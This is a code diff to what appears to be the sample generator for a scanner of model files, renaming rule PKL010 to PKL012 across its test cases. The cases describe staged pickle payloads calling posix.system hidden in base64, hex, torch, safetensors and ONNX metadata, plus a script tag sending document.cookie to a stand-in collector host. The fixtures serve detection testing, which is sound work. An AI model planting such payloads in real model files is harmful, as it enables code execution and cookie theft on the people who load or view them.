@@ -27,7 +27,7 @@ CLEAN, SUSPICIOUS, MALICIOUS = "clean", "suspicious", "malicious"
 HOST = "192.0.2.10"
 
 RULES = {
-    "PKL010": ("pickle-staged-payload", SUSPICIOUS),
+    "PKL012": ("pickle-staged-payload", SUSPICIOUS),
     "YAR:metadata_code.python_process_or_network_code": (
         "python_process_or_network_code", SUSPICIOUS),
     "YAR:metadata_code.shell_command": ("shell_command", SUSPICIOUS),
@@ -119,7 +119,7 @@ def samples(register, gen) -> None:
         return ok_dumps({"model": "tiny-classifier", "version": 3, key: payload}, 4)
 
     def staged(path, desc, build, chain):
-        register(path, SUSPICIOUS, ("PKL010", "posix.system"),
+        register(path, SUSPICIOUS, ("PKL012", "posix.system"),
                  desc=f"{desc}; the carried pickle is at {chain}", build=build)
 
     staged("malicious/staged_raw_bytes.pkl",
@@ -156,7 +156,7 @@ def samples(register, gen) -> None:
         stage1 = ok_dumps({"config": {"lr": 0.001}, "next": stage2}, 4)
         return carrier(base64.b64encode(stage1).decode(), key="stage1")
 
-    register("malicious/staged_two_stage.pkl", SUSPICIOUS, ("PKL010", "posix.system"),
+    register("malicious/staged_two_stage.pkl", SUSPICIOUS, ("PKL012", "posix.system"),
              desc="two stages: plain dict whose 'stage1' is base64 of a data-only pickle whose 'next' is the hex of "
                   "a pickle calling posix.system (value@N → base64 → value@M → hex)",
              build=two_stage)
@@ -170,7 +170,7 @@ def samples(register, gen) -> None:
         sd.items.append(("bert.pooler._extra_state", Call(G("_codecs", "encode"), (inner.decode("latin1"), "latin1"))))
         return gen.torch_zip(ok_dumps(sd, 2), tensors=tensors)
 
-    register("malicious/staged_bert_state_dict.pt", SUSPICIOUS, ("PKL010", "posix.system"),
+    register("malicious/staged_bert_state_dict.pt", SUSPICIOUS, ("PKL012", "posix.system"),
              desc="torch.save zip of a BERT-like state_dict whose 'bert.pooler._extra_state' entry is the bytes of a "
                   "pickle calling posix.system (archive/data.pkl → value@N)",
              build=bert_state_dict)
@@ -183,7 +183,7 @@ def samples(register, gen) -> None:
     # --- ordinary data that must stay clean -------------------------------------------------------
     register("benign/staged_allowed_only.pkl", CLEAN,
              desc="plain dict whose 'extra' is base64 of a pickle of plain data (a dict of floats): reported as a "
-                  "PKL010 info note, verdict clean",
+                  "PKL012 info note, verdict clean",
              build=lambda: carrier(base64.b64encode(ok_dumps({"lr": 0.001, "betas": [0.9, 0.999]}, 4)).decode(),
                                    key="extra"))
 
@@ -228,7 +228,7 @@ def samples(register, gen) -> None:
          "safetensors __metadata__ 'description' holds a <script> tag that a model hub page rendering it unescaped "
          "would run",
          {"description": "A tiny classifier.<script>fetch('https://collector.example.com/x?c='+document.cookie)</script>"})
-    register("malicious/staged_meta_pickle.safetensors", SUSPICIOUS, ("PKL010", "posix.system"),
+    register("malicious/staged_meta_pickle.safetensors", SUSPICIOUS, ("PKL012", "posix.system"),
              desc="safetensors __metadata__ 'optimizer' is base64 of a pickle calling posix.system "
                   "(__metadata__ `optimizer`@8 → base64)",
              build=lambda: safetensors_with_metadata({"format": "pt", "optimizer": b64}))
@@ -237,7 +237,7 @@ def samples(register, gen) -> None:
              desc="ONNX metadata_props 'preprocess' holds Python that imports subprocess and runs a command",
              build=lambda: onnx_with_metadata(
                  [("preprocess", "import subprocess\nsubprocess.run(['sh', '-c', 'echo quarantine-sample'])\n")]))
-    register("malicious/staged_onnx_doc_pickle.onnx", SUSPICIOUS, ("PKL010", "posix.system"),
+    register("malicious/staged_onnx_doc_pickle.onnx", SUSPICIOUS, ("PKL012", "posix.system"),
              desc="ONNX model doc_string is the hex of a pickle calling posix.system",
              build=lambda: onnx_with_metadata([("author", "example")], doc=inner.hex()))
 
